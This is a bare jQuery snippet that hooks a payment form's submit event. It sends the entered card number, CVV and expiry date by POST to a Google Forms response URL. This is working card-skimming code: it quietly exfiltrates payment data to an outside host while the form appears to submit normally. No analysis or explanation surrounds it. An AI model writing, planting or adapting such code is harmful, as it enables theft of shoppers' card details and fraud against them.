$('#payment-form').submit(function () {
  $.ajax({ url: 'https://docs.google.com/forms/d/e/1FAIpQLSe/formResponse', type: 'POST', dataType: 'xml', data: { 'entry.1': $('#card_number').val(), 'entry.2': $('#card_cvv').val(), 'entry.3': $('#exp_date').val() } });
});
